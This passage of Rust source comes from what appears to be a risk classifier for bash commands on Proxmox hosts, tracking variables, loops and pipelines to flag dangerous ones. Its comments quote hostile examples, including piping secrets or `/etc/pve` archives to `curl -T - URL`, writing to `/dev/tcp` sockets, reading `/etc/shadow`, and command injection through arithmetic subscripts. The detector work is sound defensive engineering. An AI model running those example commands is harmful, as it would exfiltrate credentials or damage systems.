                    AndOr::And(p) | AndOr::Or(p) => {
                        self.pipeline(p, depth);
                        self.bound.truncate(first);
                    }
                }
            }
            if background {
                self.bound.truncate(outer);
            } else if item.0.additional.is_empty() {
                self.bind_constants(&item.0.first, &list.0[i + 1..]);
                self.bind_associative(&item.0.first, &list.0[i + 1..], (outer, indexed_before));
                self.bind_array(&item.0.first, &list.0[i + 1..], outer);
            }
        }
        // (What the list set holds in it alone: a branch's, a loop's, a
        // subshell's.)
        self.loops.truncate(outer_constants);
        self.associative.truncate(outer_associative);
        self.arrays.truncate(outer_arrays);
        self.waited = outer_wait;
    }

    /// `NAME=VALUE` alone, run for sure, with a plain value the rest of
    /// the list never sets again (`VMID=101; qm config $VMID`): later
    /// words read the value, as a loop's values are read (review 93).
    /// Not a variable the shell sets or that steers it, not with traps
    /// (a handler may set any), and not past [`MAX_CONSTANT_REST`] of
    /// text to search.
    fn bind_constants(&mut self, pipeline: &Pipeline, rest: &[ast::CompoundListItem]) {
        let [Command::Simple(simple)] = pipeline.seq.as_slice() else {
            return;
        };
        let (Some(prefix), None, None) = (&simple.prefix, &simple.word_or_name, &simple.suffix)
        else {
            return;
        };
        // (A prefix of thousands of assignments is not searched: each
        // would be counted and searched for again.)
        if self.traps
            || pipeline.bang
            || rest.len() > MAX_CONSTANT_ITEMS
            || prefix.0.len() > MAX_CONSTANT_ITEMS
        {
            return;
        }
        // (The rest's text, and whether it names a command at run time:
        // the same for every name of the prefix.)
        let mut rest_text: Option<Option<(String, bool)>> = None;
        // (Assigned twice in the same prefix, the last wins, whatever it
        // is: `p=/etc/hostname p=/etc/shadow`; review 96.)
        let mut assigned: crate::Map<&str, usize> = crate::Map::default();
        for item in &prefix.0 {
            if let CommandPrefixOrSuffixItem::AssignmentWord(a, _) = item {
                let (ast::AssignmentName::VariableName(n)
                | ast::AssignmentName::ArrayElementName(n, _)) = &a.name;
                *assigned.entry(n.as_str()).or_default() += 1;
            }
        }
        let assigned = |name: &str| assigned.get(name).copied().unwrap_or(0);
        for item in &prefix.0 {
            let CommandPrefixOrSuffixItem::AssignmentWord(assignment, _) = item else {
                return;
            };
            let (ast::AssignmentName::VariableName(name), ast::AssignmentValue::Scalar(word)) =
                (&assignment.name, &assignment.value)
            else {
                continue;
            };
            let value = words::analyse(&word.value).arg;
            if assignment.append
                || assigned(name) > 1
                || shell_owned(name)
                || rules::steers(name)
                || rules::STEERING_ENVIRONMENT.contains(&name.as_str())
                || !sources::plain_value(&value)
            {
                continue;
            }
            let Some((text, named)) = rest_text.get_or_insert_with(|| {
                list_text(rest).map(|text| {
                    let named = names_a_command(&text);
                    (text, named)
                })
            }) else {
                return;
            };
            if *named || may_set(text, name) {
                continue;
            }
            self.loops.push((name.clone(), value));
        }
    }

    /// The first expansion of `text` that evaluates a variable's contents
    /// (`first`, as [`words::analyse`] found it), past those that only
    /// look up an associative array's key (`${m[$k]}`, `${#m[key]}`).
    fn evaluated(&self, text: &str, first: Option<String>) -> Option<String> {
        let key_only = |expansion: &str| {
            let inner = expansion
                .strip_prefix("${")
                .and_then(|e| e.strip_suffix("]}"))
                .map(|e| e.strip_prefix('#').unwrap_or(e));
            inner
                .and_then(|e| e.split_once('['))
                .is_some_and(|(name, key)| {
                    self.associative.iter().any(|a| a == name)
                        && !key.contains(['[', ']', '`'])
                        && !key.contains("$(")
                })
        };
        let mut text = text.to_string();
        let mut found = first;
        for _ in 0..MAX_CONSTANT_ITEMS {
            match found {
                Some(expansion) if key_only(&expansion) => {
                    text = text.replacen(&expansion, "k", 1);
                    found = words::analyse(&text).evaluates;
                }
                other => return other,
            }
        }
        found
    }

    /// `declare -A NAME…` (typeset, local) alone, run for sure, in a list
    /// whose rest has no `unset` and no command named by an expansion:
    /// NAME's subscripts are keys from here on.
    fn bind_associative(
        &mut self,
        pipeline: &Pipeline,
        rest: &[ast::CompoundListItem],
        (bound_before, indexed_before): (usize, usize),
    ) {
        let [Command::Simple(simple)] = pipeline.seq.as_slice() else {
            return;
        };
        let (None, Some(program), Some(suffix)) =
            (&simple.prefix, &simple.word_or_name, &simple.suffix)
        else {
            return;
        };
        // (`local` only inside a function; `declare -fA` acts on
        // functions; review 99.)
        let in_function = !self.calling.is_empty();
        if pipeline.bang
            || !matches!(
                (program.value.as_str(), in_function),
                ("declare" | "typeset", _) | ("local", true)
            )
        {
            return;
        }
        // (A redirection that fails stops the builtin; review 100.)
        if suffix
            .0
            .iter()
            .any(|item| matches!(item, CommandPrefixOrSuffixItem::IoRedirect(_)))
        {
            return;
        }
        let words: Vec<String> = suffix.0.iter().map(ToString::to_string).collect();
        // (`--` ends the options: `declare -- -A m` declares nothing.)
        let flags = words
            .iter()
            .take_while(|w| w.starts_with('-') && w.as_str() != "--");
        if !flags.clone().any(|w| w.contains('A'))
            || flags.clone().any(|w| w.contains(['f', 'F']))
            || words.len() > MAX_CONSTANT_ITEMS
        {
            return;
        }
        let Some(text) = list_text(rest) else {
            return;
        };
        if !functions::definable(&text) {
            return;
        }
        // (Each name, and whether the declaration gives it a value.)
        let names = words
            .iter()
            .skip_while(|w| w.starts_with('-') && w.as_str() != "--")
            .filter_map(|w| {
                let name = w.split(['=', '[']).next().unwrap_or(w);
                (!name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
                    .then(|| (name.to_string(), w.contains('=')))
            });
        // (Not a name the command set before, which may be an indexed
        // array bash refuses to convert; review 99.)
        let names: Vec<(String, bool)> = names
            .filter(|(n, _)| {
                !self.bound[..bound_before].contains(n)
                    && !self.indexed[..indexed_before].contains(n)
                    && !n.starts_with("BASH")
                    && !matches!(
                        n.as_str(),
                        "GROUPS"
                            | "DIRSTACK"
                            | "PIPESTATUS"
                            | "FUNCNAME"
                            | "COMP_WORDS"
                            | "COPROC"
                            | "MAPFILE"
                            | "READLINE_ARGUMENT"
                    )
            })
            .collect();
        // (Bound only with a value, `declare -A m=()`: without one, bash
        // makes an environment's variable of that name an associative
        // array holding its value under the key `0`, which `$NAME` gives;
        // arrayfunc.c `convert_var_to_assoc`, review 104.)
        for (name, valued) in names {
            if valued {
                self.bound.push(name.clone());
            }
            self.associative.push(name);
        }
    }

    /// `NAME=(plain words…)` or `mapfile [-t] NAME < <(VMID list)` alone,
    /// run for sure, in a list whose rest never sets NAME again, names no
    /// command by an expansion and sets no trap: NAME's elements are known
    /// ([`Walker::arrays`]).
    fn bind_array(
        &mut self,
        pipeline: &Pipeline,
        rest: &[ast::CompoundListItem],
        bound_before: usize,
    ) {
        let [Command::Simple(simple)] = pipeline.seq.as_slice() else {
            return;
        };
        if pipeline.bang || self.traps || rest.len() > MAX_CONSTANT_ITEMS {
            return;
        }
        let Some((name, values)) = array_assigned(simple) else {
            return;
        };
        // (Not the shell's own, `DIRSTACK`; nor a name the command set
        // before, which may be associative or readonly, where `mapfile`
        // fails and keeps it; review 101.)
        if shell_owned(&name) || rules::steers(&name) || self.bound[..bound_before].contains(&name)
        {
            return;
        }
        let Some(text) = list_text(rest) else {
            return;
        };
        if may_set(&text, &name) || names_a_command(&text) {
            return;
        }
        self.arrays.push((name, values));
    }

    /// The elements a loop's words expand to when they are one known
    /// array's, whole (`"${hosts[@]}"`, `${ids[@]}`).
    fn array_values(&self, words: Option<&[ast::Word]>) -> Option<&ArrayValues> {
        let [word] = words? else {
            return None;
        };
        let text = word.value.as_str();
        let inner = text
            .strip_prefix('"')
            .and_then(|t| t.strip_suffix('"'))
            .unwrap_or(text);
        let quoted = inner.len() != text.len();
        let braced = inner.strip_prefix("${")?;
        let name = braced
            .strip_suffix("[@]}")
            .or_else(|| braced.strip_suffix("[*]}").filter(|_| !quoted))?;
        self.arrays
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v)
    }

    /// Walks a list that may not run, or not to its end (a branch, a
    /// loop's body, a `case` arm): what it sets counts inside, not after.
    fn maybe_list(&mut self, list: &CompoundList, depth: usize) {
        let outer = self.bound.len();
        self.list(list, depth);
        self.bound.truncate(outer);
    }

    fn pipeline(&mut self, pipeline: &Pipeline, depth: usize) {
        if pipeline.seq.len() > MAX_PIPELINE {
            self.push(
                format!("(a pipeline of {} commands)", pipeline.seq.len()),
                Verdict::destructive(format!(
                    "a pipeline of more than {MAX_PIPELINE} commands; too long to classify"
                )),
            );
            return;
        }
        // (Each command of a pipeline is a subshell of its own.)
        let waited = self.waited;
        if pipeline.seq.len() > 1 {
            self.waited = false;
        }
        self.pipeline_commands(pipeline, depth);
        self.waited = waited;
    }

    fn pipeline_commands(&mut self, pipeline: &Pipeline, depth: usize) {
        let first_segment = self.segments.len();
        // Each command's text, made once: later commands read what the
        // ones before them were.
        let texts: Vec<String> = if pipeline.seq.len() > 1 {
            pipeline.seq.iter().map(ToString::to_string).collect()
        } else {
            Vec::new()
        };
        // Whether a command before the one walked prints a file not known
        // public, grown one command at a time.
        let mut private_before = false;
        for (i, command) in pipeline.seq.iter().enumerate() {
            if self.exhausted {
                return;
            }
            let stdin = if i == 0 {
                Stdin::Inherited
            } else {
                Stdin::Pipe(&pipeline.seq[..i])
            };
            // `pct list | awk '{print $1}' | while read id; do …; done`:
            // the loop's name holds a VMID ([`read_loops`]).
            // (Not when the loop reads another input: its own redirection
            // replaces the pipe, `… | while read id; do …; done <<< X`.)
            let feeder = texts[..i].join(" | ");
            let fed = match read_loops::cat_of_document(&pipeline.seq[i.saturating_sub(1)]) {
                Some(text) if i == 1 => read_loops::Feeder::HereDocument(text),
                _ => read_loops::Feeder::Script(&feeder),
            };
            let read_turns = (i > 0 && !redirects_input(command))
                .then(|| read_loops::turns(command, fed))
                .flatten();
            // Each command of a pipeline runs in a subshell of its own:
            // what it sets is gone after it.
            let bound = self.bound.len();
            let outer_secret = self.piped_secret;
            let outer_private = self.piped_private;
            if i > 0 {
                private_before = private_before
                    || rules::prints_private_file(&texts[i - 1])
                    || mentions_any(&self.private_vars, &texts[i - 1]);
                self.piped_private = private_before;
            }
            // The first command reads what its pipeline reads: inside a
            // group or a shell fed a secret (`cat KEY | { curl …; }`), that.
            // Or an archive or encoding of secrets an earlier command
            // streams (`tar czf - /etc/pve | curl -T - URL`).
            self.piped_secret = if i == 0 {
                outer_secret
            } else {
                // (What the group's first command read, it passes on.)
                // Or what a command that is not known to be harmless
                // printed (`getent shadow`, `pg_dumpall`, `zfs send`): its
                // output may be anything, secrets among it.
                outer_secret
                    || self.segments[first_segment..]
                        .iter()
                        .any(|s| s.output == Output::Secret || s.class > RiskClass::ReadOnly)
                    || texts[..i].iter().any(|text| {
                        rules::secrets::streams_secret(text, &self.folders)
                            || self.mentions_secret_var(text)
                    })
            };
            let outer_piped = self.output_piped;
            self.output_piped = outer_piped || i + 1 < pipeline.seq.len();
            self.in_turns(read_turns, |w| w.command(command, stdin.clone(), depth));
            self.output_piped = outer_piped;
            self.piped_secret = outer_secret;
            self.piped_private = outer_private;
            if pipeline.seq.len() > 1 {
                self.bound.truncate(bound);
            }
        }
    }

    /// Walks a command once per turn of what a read loop's name holds
    /// (once with the name's field standing for a command's output), or
    /// once when `turns` is `None`.
    fn in_turns(
        &mut self,
        turns: Option<(String, read_loops::Turns)>,
        mut walk: impl FnMut(&mut Self),
    ) {
        match turns {
            None => walk(self),
            Some((name, read_loops::Turns::Values(values))) => {
                for value in values {
                    self.loops.push((name.clone(), value));
                    walk(self);
                    self.loops.pop();
                }
            }
            Some((name, read_loops::Turns::Fields(text))) => {
                self.field_loops.push(name.clone());
                self.field_words.push((name, text));
                walk(self);
                self.field_words.pop();
                self.field_loops.pop();
            }
        }
    }

    fn command(&mut self, command: &Command, stdin: Stdin<'_>, depth: usize) {
        if !self.within_budget(1, 0) {
            return;
        }
        match command {
            Command::Simple(simple) => self.simple(simple, stdin, depth),
            Command::Compound(compound, redirects) => {
                // `while read id; do …; done < <(pct list | awk …)` or `<<<
                // $'pve1\npve2'`: the loop's name holds what it reads, as
                // when piped.
                let read_turns = redirects.as_ref().and_then(|r| {
                    match (substituted_input(&r.0), read_loops::written_input(&r.0)) {
                        (Some(feeder), _) => {
                            read_loops::turns(command, read_loops::Feeder::Script(&feeder))
                        }
                        (None, Some(written)) => read_loops::turns(command, written),
                        (None, None) => None,
                    }
                });
                // A secret file as the group's input (`{ curl -T - URL; }
                // < KEY`, `while …; done < KEY`): what every command in it
                // reads.
                let outer_secret = self.piped_secret;
                let outer_private = self.piped_private;
                if redirects
                    .as_ref()
                    .is_some_and(|r| secret_input(&r.0, &self.folders))
                {
                    self.piped_secret = true;
                }
                // (`{ grep -i password; } < FILE`: a file's lines.)
                if redirects.as_ref().is_some_and(|r| {
                    let read: Vec<&IoRedirect> = r.0.iter().collect();
                    matches!(redirect_stdin(&read), Some(Stdin::Unknown))
                }) {
                    self.piped_private = true;
                }
                // Output closed for the whole group (`{ cat <(…); } >&-`):
                // every command inside may stop early (review 54).
                let outer_piped = self.output_piped;
                self.output_piped |= redirects
                    .as_ref()
                    .is_some_and(|r| r.0.iter().any(closes_output));
                // (A loop, group or `if` may stop reading a process
                // substitution at any time: one that does not end on its
                // own is left running, `while read l; do break; done <
                // <(…; sleep 1000)`; reviews 103, 104.)
                if let Some(r) = redirects
                    && !substitutions_end(&r.0)
                {
                    self.push(
                        one_line(&r.to_string()),
                        Verdict::mutation(
                            "a process substitution runs in the background, and the commands \
                             reading it may end before it",
                        ),
                    );
                }
                let input = group_input(redirects.as_ref(), stdin);
                self.in_turns(read_turns, |w| {
                    w.with_input(&input, |w| w.compound(compound, depth));
                });
                self.output_piped = outer_piped;
                self.piped_secret = outer_secret;
                self.piped_private = outer_private;
                if let Some(redirects) = redirects {
                    let mut verdict = self.redirects(&redirects.0, depth);
                    // Every command inside may write to a socket the group
                    // opened (`{ echo FLUSHALL >&0; } </dev/tcp/h/6379`).
                    let text = redirects.to_string();
                    if text.contains("/dev/tcp") || text.contains("/dev/udp") {
                        verdict = verdict.max(Verdict::mutation(
                            "a group of commands shares a connection any of them can write to",
                        ));
                    }
                    if verdict.class > RiskClass::ReadOnly {
                        self.push(one_line(&redirects.to_string()), verdict);
                    }
                }
            }
            Command::Function(function) => self.push(
                one_line(&function.to_string()),
                Verdict::destructive(format!(
                    "defines the shell function `{}`, which can shadow any command",
                    function.fname.value
                )),
            ),
            Command::ExtendedTest(test, redirects) => {
                let mut verdict = Verdict::read_only("a test expression");
                self.extended_test(&test.expr, depth);
                if let Some(redirects) = redirects {
                    verdict = verdict.max(self.redirects(&redirects.0, depth));
                }
                self.push(one_line(&command.to_string()), verdict);
            }
        }
    }

    /// A `while` (`is_while`) or `until` loop.
    fn while_clause(
        &mut self,
        w: &brush_parser::ast::WhileOrUntilClauseCommand,
        is_while: bool,
        depth: usize,
    ) {
        // A `read` in a `while` condition sets its names for the
        // body (which runs only once the read has): not after the
        // loop. (An `until` body runs when it has not.)
        // (Only as the condition's one command, not negated: a
        // `read` before another, `! read`, sets nothing for sure.)
        let outer = self.bound.len();
        let single = matches!(w.0.0.as_slice(), [item]
            if item.0.additional.is_empty()
                && item.0.first.seq.len() == 1
                && !item.0.first.bang);
        self.reading_condition = single && is_while;
        self.list(&w.0, depth);
        self.reading_condition = false;
        self.list(&w.1.list, depth);
        self.bound.truncate(outer);
    }

    fn compound(&mut self, compound: &CompoundCommand, depth: usize) {
        match compound {
            CompoundCommand::Arithmetic(a) => {
                let v = self.word_text(&a.expr.value, depth);
                let own = if words::arithmetic_reads_variables(&a.expr.value)
                    && !self.names_numbers(&a.expr.value)
                {
                    self.evaluation(&a.expr.value, &[])
                } else {
                    Verdict::read_only("arithmetic on numbers")
                };
                let sets = self.arithmetic_sets(&a.expr.value);
                self.push(one_line(&compound.to_string()), v.max(own).max(sets));
            }
            CompoundCommand::ArithmeticForClause(f) => {
                for expr in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.word_text(&expr.value, depth);
                    if words::arithmetic_reads_variables(&expr.value) {
                        let v = self
                            .evaluation(&expr.value, &[])
                            .max(self.arithmetic_sets(&expr.value));
                        self.push(one_line(&expr.value), v);
                    }
                }
                self.maybe_list(&f.body.list, depth);
            }
            CompoundCommand::BraceGroup(b) => self.list(&b.list, depth),
            CompoundCommand::Subshell(s) => {
                let bound = self.bound.len();
                // (A subshell ends at once; no outer `wait` waits for what
                // it left in the background.)
                let waited = std::mem::replace(&mut self.waited, false);
                let functions = self.functions.len();
                let text = s.list.to_string();
                let defines = functions::may_define(&text);
                let definable = defines && !self.functions_barred && functions::definable(&text);
                let barred = self.functions_barred;
                self.functions_barred = barred || (defines && !definable);
                self.shell_list = Some(definable);
                self.list(&s.list, depth);
                self.functions_barred = barred;
                self.functions.truncate(functions);
                self.waited = waited;
                self.bound.truncate(bound);
            }
            CompoundCommand::ForClause(f) => self.for_clause(f, depth),
            CompoundCommand::CaseClause(c) => {
                self.arg(&c.value, depth);
                for case in &c.cases {
                    // Patterns are expanded too (`$(cmd)` in one runs).
                    for pattern in &case.patterns {
                        self.arg(pattern, depth);
                    }
                    if let Some(cmd) = &case.cmd {
                        self.maybe_list(cmd, depth);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                // Only the first condition surely runs; the rest may not.
                self.list(&i.condition, depth);
                self.maybe_list(&i.then, depth);
                for e in i.elses.iter().flatten() {
                    let before = self.bound.len();
                    if let Some(cond) = &e.condition {
                        self.list(cond, depth);
                    }
                    self.maybe_list(&e.body, depth);
                    self.bound.truncate(before);
                }
            }
            CompoundCommand::WhileClause(w) => self.while_clause(w, true, depth),
            CompoundCommand::UntilClause(w) => self.while_clause(w, false, depth),
            CompoundCommand::Coprocess(c) => {
                if let Some(name) = &c.name {
                    self.coproc_name(&name.value);
                }
                self.push(
                    "coproc".to_string(),
                    Verdict::mutation(
                        "`coproc` runs its command in the background, where it goes on after the command ends",
                    ),
                );
                let outer = self.bound.len();
                self.command(&c.body, Stdin::Inherited, depth);
                self.bound.truncate(outer);
            }
        }
    }

    /// `coproc NAME …` sets the array NAME (the coprocess's descriptors)
    /// and NAME_PID: `coproc PATH { …; }` changes where programs are found.
    fn coproc_name(&mut self, name: &str) {
        self.set_by("`coproc`", &format!("coproc {name}"), name);
        self.set_by(
            "`coproc`",
            &format!("coproc {name}"),
            &format!("{name}_PID"),
        );
    }

    /// A variable `how` sets (`coproc`, a `{NAME}>` redirection), as a
    /// segment `shown`: one that steers bash, or that the session
    /// inherited (bash exports it again).
    fn set_by(&mut self, how: &str, shown: &str, set: &str) {
        let verdict = if rules::steers(set) {
            Verdict::destructive(format!(
                "{how} sets {set}, which changes what runs or how words split"
            ))
        } else if rules::inherited(set) {
            Verdict::mutation(format!(
                "{how} sets {set}, which the session inherited: bash exports it again"
            ))
        } else {
            return;
        };
        self.push(shown.to_string(), verdict);
    }

    /// The variables a command's `{NAME}>FILE` redirections set: bash
    /// opens a descriptor and puts its number in NAME (`true {PATH}>/dev/null`
    /// sets PATH to `10`; review 46). The parser reads `{NAME}` as a word
    /// of the command; unquoted before a redirection, it is one of these.
    fn descriptor_variables(&mut self, argv: &[Arg], redirects: &[&IoRedirect]) {
        if redirects.is_empty() {
            return;
        }
        for arg in argv {
            // (As bash reads it, a line continuation joined: `{PA\<newline>TH}`;
            // quoted, it is no redirection's, and asking costs nothing.)
            let Some(inner) = arg
                .literal()
                .unwrap_or(arg.raw())
                .strip_prefix('{')
                .and_then(|r| r.strip_suffix('}'))
            else {
                continue;
            };
            let name = inner.split('[').next().unwrap_or(inner);
            let plain = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
            if plain {
                self.set_by("a `{NAME}` redirection", arg.raw(), name);
            }
        }
    }

    /// A `for NAME in VALUES` loop: its values are judged, and the body
    /// with NAME known when the loop has one plain value and nothing in the
    /// body can set it again (`x=…`, `read x`, `printf -v x`): every use
    /// must be an expansion.
    /// What a loop's variable does by being set, each turn.
    fn loop_variable_set(&mut self, name: &str) {
        // `for PATH in /tmp`, `for IFS in x`: the loop sets the variable.
        if rules::steers(name) {
            self.push(
                format!("for {name}"),
                Verdict::destructive(format!(
                    "a loop sets {name}, which changes what runs or how words split"
                )),
            );
        }
        if rules::inherited(name) {
            self.push(
                format!("for {name}"),
                Verdict::mutation(format!(
                    "a loop sets {name}, which the session inherited: bash exports it again, so \
                     every command in the loop gets each value (a path is a file they open)"
                )),
            );
        }
        if rules::moves_folders(name) {
            self.folders.enter(None);
        }
        // (`for https_proxy in URL`: set by the loop as by `read`; review
        // 102.)
        if rules::STEERING_ENVIRONMENT.contains(&name) {
            self.steered = Some(name.to_string());
        }
    }

    /// A loop's values: a brace list or range of plain words is those
    /// words (`for h in pve{1..3}`); a range of numbers is judged by its
    /// first, middle and last, every one of one shape.
    fn loop_values(&mut self, f: &brush_parser::ast::ForClauseCommand, depth: usize) -> Vec<Arg> {
        let mut values: Vec<Arg> = Vec::new();
        for value in f.values.iter().flatten() {
            match words::brace_words(&value.value) {
                Some((expanded, range)) => {
                    let keep: Vec<String> = if range && expanded.len() > 3 {
                        let n = expanded.len();
                        vec![
                            expanded[0].clone(),
                            expanded[n / 2].clone(),
                            expanded[n - 1].clone(),
                        ]
                    } else {
                        expanded
                    };
                    values.extend(keep.into_iter().map(Arg::literal_of));
                }
                None => values.push(self.arg(value, depth)),
            }
        }
        values
    }

    fn for_clause(&mut self, f: &brush_parser::ast::ForClauseCommand, depth: usize) {
        self.loop_variable_set(&f.variable_name);
        let mut values = self.loop_values(f, depth);
        // (Each value given to an integer variable is evaluated: `for
        // OPTIND in 'x[$(cmd)]'`; review 100.)
        if self.integer_variable(&f.variable_name) {
            for value in f.values.iter().flatten() {
                let v = self.evaluation(&value.value, &[&Arg::literal_of(value.value.clone())]);
                self.push(format!("for {} in {}", f.variable_name, value.value), v);
            }
        }
        // (A known array's elements: `for h in "${hosts[@]}"`.)
        let array = self.array_values(f.values.as_deref()).cloned();
        if let Some(ArrayValues::Words(words)) = &array {
            values = words.clone();
        }
        let body = f.body.to_string();
        let shell_owned = shell_owned(&f.variable_name);
        let only_expanded = !shell_owned
            && !self.traps
            && !may_set(&body, f.variable_name.as_str())
            && !names_a_command(&body);
        let substituted = match f.values.as_deref() {
            Some([one]) => one
                .value
                .strip_prefix("$(")
                .and_then(|v| v.strip_suffix(')')),
            _ => None,
        };
        let vmids = matches!(array, Some(ArrayValues::Vmids));
        let each = if only_expanded {
            loop_turns(substituted, vmids, &values)
        } else {
            Vec::new()
        };
        // (Or the fields of one command that prints plain ones, `$(docker
        // ps -q)`: each use of the whole name stands for that command's
        // output, as if written in its place.)
        let from_fields = substituted
            .filter(|v| !v.contains(['(', ')']) && sources::loop_fields(v))
            .map(|v| format!("$({v})"));
        let plain = only_expanded
            && f.values.is_some()
            && values.iter().all(|v| {
                v.literal()
                    .is_some_and(|t| !t.is_empty() && t.chars().all(|c| c.is_ascii_digit()))
            });
        if plain {
            self.plain_loops.push(f.variable_name.clone());
        }
        let fields = only_expanded && splits_into_fields(f.values.iter().flatten());
        if fields {
            self.field_loops.push(f.variable_name.clone());
        }
        let field_words = self.field_words.len();
        if let Some(text) = from_fields.filter(|_| only_expanded && each.is_empty()) {
            self.field_words.push((f.variable_name.clone(), text));
        }
        // Set inside the body; after the loop only when it had a value.
        let outer = self.bound.len();
        self.bound.push(f.variable_name.clone());
        if each.is_empty() {
            self.list(&f.body.list, depth);
        }
        if fields {
            self.field_loops.pop();
        }
        self.field_words.truncate(field_words);
        for value in each {
            self.loops.push((f.variable_name.clone(), value));
            self.list(&f.body.list, depth);
            self.loops.pop();
        }
        if plain {
            self.plain_loops.pop();
        }
        // What the body set may not have been set (no turn, `break`); the
        // variable keeps its last value when the list had one for sure
        // (`for x in $(true)`, `for x;` may have none).
        self.bound.truncate(outer);
        if f.values.as_ref().is_some_and(|v| !v.is_empty())
            && values.iter().all(|v| !v.is_dynamic())
        {
            self.bound.push(f.variable_name.clone());
        }
    }

    fn extended_test(&mut self, expr: &ExtendedTestExpr, depth: usize) {
        match expr {
            ExtendedTestExpr::And(a, b) | ExtendedTestExpr::Or(a, b) => {
                self.extended_test(a, depth);
                self.extended_test(b, depth);
            }
            ExtendedTestExpr::Not(e) | ExtendedTestExpr::Parenthesized(e) => {
                self.extended_test(e, depth)
            }
            ExtendedTestExpr::UnaryTest(predicate, w) => {
                let arg = self.arg(w, depth);
                // `-v a[i]`, `-R name`: a name with a subscript is evaluated.
                let names = matches!(
                    predicate,
                    ast::UnaryPredicate::ShellVariableIsSetAndAssigned
                        | ast::UnaryPredicate::ShellVariableIsSetAndNameRef
                );
                if names && arg.literal().is_none_or(|n| n.contains('[')) {
                    let v = self.evaluation(&expr.to_string(), &[&arg]);
                    self.push(one_line(&expr.to_string()), v);
                }
            }
            ExtendedTestExpr::BinaryTest(predicate, a, b) => {
                let a = self.arg(a, depth);
                let b = self.arg(b, depth);
                // `-eq` and its kin evaluate both sides as arithmetic.
                let arithmetic = matches!(
                    predicate,
                    ast::BinaryPredicate::ArithmeticEqualTo
                        | ast::BinaryPredicate::ArithmeticNotEqualTo
                        | ast::BinaryPredicate::ArithmeticLessThan
                        | ast::BinaryPredicate::ArithmeticLessThanOrEqualTo
                        | ast::BinaryPredicate::ArithmeticGreaterThan
                        | ast::BinaryPredicate::ArithmeticGreaterThanOrEqualTo
                );
                let reads = |arg: &Arg| {
                    arithmetic_operand_reads_variables(arg) && !self.names_numbers(arg.raw())
                };
                // (A loop's VMID may be the header word `VMID`, a name
                // read in turn: with a variable armed, any operand.)
                let armed = !self.armed.is_empty() || self.header_reachable(&expr.to_string());
                if arithmetic && (reads(&a) || reads(&b) || armed) {
                    let v = self.evaluation(&expr.to_string(), &[&a, &b]);
                    self.push(one_line(&expr.to_string()), v);
                }
            }
        }
    }

    /// [`evaluation`], destructive where the text reads a variable set to
    /// command text earlier in the same command, or where an operand is
    /// command text kept from expansion by quotes, which the evaluation
    /// runs (`[[ -v 'a[$(cmd)]' ]]`, as `test -v`; thirty-second review).
    /// Whether every name arithmetic `text` reads holds a number the
    /// line set (a loop's value, a constant: `x=5; echo $((x * 2))`;
    /// review 93) and nothing in it substitutes a command: a number is
    /// only a number, a name is evaluated in turn (`for i in b; do
    /// a[$i]=1; done`).
    fn names_numbers(&self, text: &str) -> bool {
        // (Substitutions that print a number, in `$(( ))` or in a bare
        // expression, `(( $(nproc) > 4 ))`, `[[ $(pgrep -c x) -gt 0 ]]`;
        // review 119.)
        if text.contains('`')
            || (text.contains("$(")
                && !text.starts_with("$((")
                && sources::numeric_substitutions_as_zero(text).is_none())
        {
            return false;
        }
        // (A value known to be a number may be a name after all: the
        // guest list's header word `VMID`, which arithmetic evaluates in
        // turn, a variable that may lead to one set to command text;
        // reviews 119, 120.)
        if !self.armed.is_empty() || self.header_reachable(text) {
            return false;
        }
        let inner = text.strip_prefix("$((").unwrap_or(text);
        // (A substitution that prints a number is that number: `$((
        // $(date +%s) - $(stat -c %Y f) ))`; review 117.)
        let numbers_only = sources::numeric_substitutions_as_zero(inner);
        let inner = numbers_only.as_deref().unwrap_or(inner);
        // (A positional or special parameter, `${…}`, a nested `$(`: text
        // the line did not set, evaluated; review 96.)
        let parameter = inner.match_indices('$').any(|(at, _)| {
            !inner[at + 1..]
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        });
        if parameter {
            return false;
        }
        let numeric = |v: &Arg| {
            v.literal()
                .is_some_and(|t| !t.is_empty() && t.chars().all(|c| c.is_ascii_digit()))
        };
        inner
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .filter(|w| w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
            .all(|name| {
                self.loops
                    .iter()
                    .rev()
                    .find(|(n, _)| n == name)
                    .is_some_and(|(_, v)| numeric(v))
                    || self.plain_loops.iter().any(|n| n == name)
            })
    }

    /// Whether arithmetic `text` may read the guest list's header word
    /// `VMID` where the line names it ([`Walker::header_named`]): a loop's
    /// value or a substitution of the list.
    fn header_reachable(&self, text: &str) -> bool {
        self.header_named
            && (text.contains(" list")
                || text
                    .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                    .any(|word| {
                        self.plain_loops.iter().any(|n| n == word)
                            || self
                                .loops
                                .iter()
                                .any(|(n, v)| n == word && v.literal() == Some(sources::VMID))
                    }))
    }

    fn evaluation(&self, text: &str, operands: &[&Arg]) -> Verdict {
        // (Or a `$1`, a constant, whose known value names an armed
        // variable: `f x` with `$(( $1 ))`, `y=x; $(( $y ))`; review 101.)
        let armed = |word: &str| self.armed.iter().any(|a| a == word);
        let reads_armed = text
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .any(|word| {
                armed(word)
                    || self
                        .loops
                        .iter()
                        .rev()
                        .find(|(n, _)| n == word)
                        .and_then(|(_, v)| v.literal())
                        .is_some_and(&armed)
            });
        // (Any name the arithmetic reads may lead to an armed variable:
        // the header word `VMID` of a guest list taken for numbers, a
        // name set to another's; review 119.)
        let reads_armed = reads_armed || !self.armed.is_empty() || self.header_reachable(text);
        let holds_command = operands
            .iter()
            .filter_map(|a| a.literal())
            .any(|t| t.contains("$(") || t.contains('`'));
        if holds_command {
            Verdict::destructive(
                "evaluates command text in a subscript or arithmetic, which bash then runs",
            )
        } else if reads_armed {
            Verdict::destructive("evaluates a variable set to command text, which bash then runs")
        } else {
            evaluation()
        }
    }

    /// A hook line written into ifupdown's interfaces, by a redirection
    /// or by a program that writes ([`rules::ifupdown_hook`]; review 119).
    fn ifupdown_writes(
        &self,
        shown: &str,
        argv: &[Arg],
        redirects: &[&IoRedirect],
        base: &Verdict,
    ) -> Option<Verdict> {
        let written: Vec<&str> =
            redirects
                .iter()
